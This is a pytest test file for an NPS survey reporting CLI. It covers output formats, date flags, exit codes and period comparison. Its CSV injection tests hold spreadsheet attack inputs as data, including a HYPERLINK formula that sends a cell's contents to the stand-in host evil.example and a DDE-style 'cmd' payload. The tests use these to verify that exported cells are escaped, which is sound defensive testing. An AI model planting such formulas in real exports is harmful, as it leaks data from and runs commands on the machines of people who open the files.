"""`nps-dispatch report`: flags, the three formats, exit codes."""

from __future__ import annotations

import argparse
import csv
import io
import json
from datetime import timedelta

import pytest

from cli.report import add_report_parser
from reports.render import CSV_COLUMNS
from tests.conftest import Database
from tests.reports.test_report_db import START, Case, check_headline, random_cases, seed


def parser() -> argparse.ArgumentParser:
    root = argparse.ArgumentParser(prog="nps-dispatch")
    add_report_parser(root.add_subparsers(dest="command", required=True))
    return root


def run(argv: list[str]) -> int:
    args = parser().parse_args(["report", *argv])
    return int(args.func(args))


@pytest.fixture
def seeded(db: Database, runtime_for) -> list[Case]:
    runtime_for(db)
    cases = random_cases(23, 300, START)
    seed(db, cases)
    return cases


def test_json_format_is_the_report(seeded, capsys):
    assert run(["--format", "json", "--by", "channel"]) == 0
    report = json.loads(capsys.readouterr().out)
    check_headline(report, seeded)
    for key in (
        "period",
        "n_purchases",
        "n_invited",
        "n_answered",
        "nps",
        "nps_ci95",
        "counts",
        "dispositions",
        "rates",
        "adjusted",
        "bounds",
        "coverage",
        "segments",
        "timing",
        "compare",
    ):
        assert key in report, key
    assert {"nps", "ci95", "n_eff", "smd"} <= set(report["adjusted"])
    assert [s["key"] for s in report["segments"]] == ["email", "sms"]
    assert report["compare"] is None  # open-ended period: nothing to compare with


def test_csv_parses_back(seeded, capsys):
    assert run(["--format", "csv", "--by", "country"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and tuple(rows[0]) == CSV_COLUMNS
    assert [r["segment"] for r in rows] == ["all", "DE", "FR", "RO", "unknown"]
    assert run(["--format", "json", "--by", "country"]) == 0
    report = json.loads(capsys.readouterr().out)
    entries = [report, *report["segments"]]
    for row, entry in zip(rows, entries, strict=True):
        assert int(row["n_invited"]) == entry["n_invited"]
        assert int(row["promoters"]) == entry["counts"]["promoters"]
        assert float(row["nps"]) == pytest.approx(entry["nps"])
        assert float(row["nps_ci95_low"]) == pytest.approx(entry["nps_ci95"][0])
        assert float(row["RR2"]) == pytest.approx(entry["rates"]["RR2"])
        assert float(row["adjusted_nps"]) == pytest.approx(entry["adjusted"]["nps"])
    # The "all" row adds up the segments.
    assert int(rows[0]["n_surveys"]) == sum(int(r["n_surveys"]) for r in rows[1:])


def test_table_format_prints_the_sections(seeded, capsys):
    assert run(["--by", "arm", "--since", "2026-11-02", "--until", "2026-11-16"]) == 0
    out = capsys.readouterr().out
    for text in (
        "NPS report: purchases from 2026-11-02 to 2026-11-16",
        "95% CI",
        "AAPOR outcome rates",
        "non-response adjusted NPS",
        "standardised mean difference",
        "coverage",
        "by arm",
        "timing by delay arm",
        "vs purchases from 2026-10-19 to 2026-11-02",
    ):
        assert text in out, text


def test_period_and_compare_flags(db: Database, runtime_for, capsys):
    runtime_for(db)
    seed(
        db,
        [
            Case("completed", START + timedelta(days=d), score=10 if d >= 7 else 0)
            for d in range(14)
        ],
    )
    assert run(["--format", "json", "--since", "2026-11-09", "--until", "2026-11-16"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["nps"] == 100.0 and report["counts"]["n"] == 7
    assert report["compare"]["period"] == {"since": "2026-11-02", "until": "2026-11-09"}
    assert report["compare"]["nps"] == -100.0
    argv = ["--format", "json", "--since", "2026-11-09", "--until", "2026-11-16"]
    assert run([*argv, "--no-compare"]) == 0
    assert json.loads(capsys.readouterr().out)["compare"] is None
    assert run([*argv, "--compare-since", "2026-11-12", "--compare-until", "2026-11-14"]) == 0
    assert json.loads(capsys.readouterr().out)["compare"]["counts"]["n"] == 2


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--since", "2026-02-30"], "'2026-02-30' is not a date"),
        (["--until", "yesterday"], "'yesterday' is not a date"),
        (["--by", "colour"], "invalid choice: 'colour'"),
        (["--format", "xml"], "invalid choice: 'xml'"),
    ],
)
def test_bad_arguments_exit_2(argv, message, capsys):
    with pytest.raises(SystemExit) as exc:
        run(argv)
    assert exc.value.code == 2
    assert message in capsys.readouterr().err


def test_since_not_before_until_exits_2(sqlite_db: Database, runtime_for, capsys):
    runtime_for(sqlite_db)
    assert run(["--since", "2026-11-10", "--until", "2026-11-01"]) == 2
    assert "must be before until" in capsys.readouterr().err


def test_func_accepts_a_plain_namespace(sqlite_db: Database, runtime_for, capsys):
    from cli.report import cmd_report

    runtime_for(sqlite_db)
    args = argparse.Namespace(since="2026-11-01", until=None, by=None, format="json")
    assert cmd_report(args) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["period"] == {"since": "2026-11-01", "until": None}
    bad = argparse.Namespace(since="11/01/2026", until=None, by=None, format="json")
    assert cmd_report(bad) == 2
    assert "since: '11/01/2026' is not a date" in capsys.readouterr().err


# -- CSV injection ----------------------------------------------------------------------------

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_csv_keeps_formula_like_segments_as_text(db: Database, runtime_for, capsys):
    runtime_for(db)
    categories = [EVIL, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR", "books"]
    cases = [
        Case("completed", START + timedelta(days=i % 7), score=score, category=category)
        for i, category in enumerate(categories)
        for score in (0, 0, 3, 10)  # NPS -50: a negative number in every row
    ]
    seed(db, cases)

    assert run(["--format", "csv", "--by", "category"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out, newline="")))

    segments = {r["segment"] for r in rows}
    assert "'" + EVIL in segments and EVIL not in segments
    assert {"'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-2+3", "'\tTAB", "'\rCR", "books"} <= segments
    for row in rows:
        assert row["segment"] == "all" or not row["segment"].startswith(("=", "+", "-", "@"))
        assert row["nps"] == "-50.0"  # numbers stay numbers: no quote in front
        assert float(row["nps_ci95_low"]) < -50.0
    assert "\n'=HYPERLINK(" in out or "\n\"'=HYPERLINK(" in out


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # text that is a plain number opens as that number: harmless
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        ("-\u0663", "'-\u0663"),  # a non-ASCII digit is not a plain number
        ("books", "books"),
        ("a=b", "a=b"),
        (-12.5, -12.5),
        (-3, -3),
        ("", ""),
    ],
)
def test_csv_cell(value, cell):
    from reports.render import csv_cell

    assert csv_cell(value) == cell
